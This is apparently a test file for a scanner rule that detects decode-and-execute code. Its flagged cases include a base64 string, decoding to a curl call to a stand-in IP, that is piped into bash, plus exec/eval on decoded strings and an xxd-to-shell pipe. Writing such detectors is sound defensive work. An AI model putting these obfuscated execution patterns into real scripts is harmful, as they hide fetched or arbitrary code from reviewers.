import { describeCodeRule, js, py, sh, text } from '../../testing/code-rule-cases.ts';
import { decodedExecution } from './decoded-execution.rule.ts';

describeCodeRule(decodedExecution, {
  caught: [
    sh('echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkvYQ== | base64 -d | bash'),
    py('import base64\nexec(base64.b64decode("cHJpbnQoMSk="))'),
    js('eval(atob("Y29uc29sZS5sb2coMSk="))'),
    sh("printf '\\x6c\\x73' | xxd -r -p | sh"),
  ],
  quiet: [
    sh('base64 -d image.b64 > image.png'),
    py('import base64, json\ndata = json.loads(base64.b64decode(token))'),
    text('A scanner should flag `base64 -d | bash` in scripts. Never run it.'),
  ],
  notApplicable: [sh('ls'), py('x = 1'), text('Use base64 for pictures.')],
});
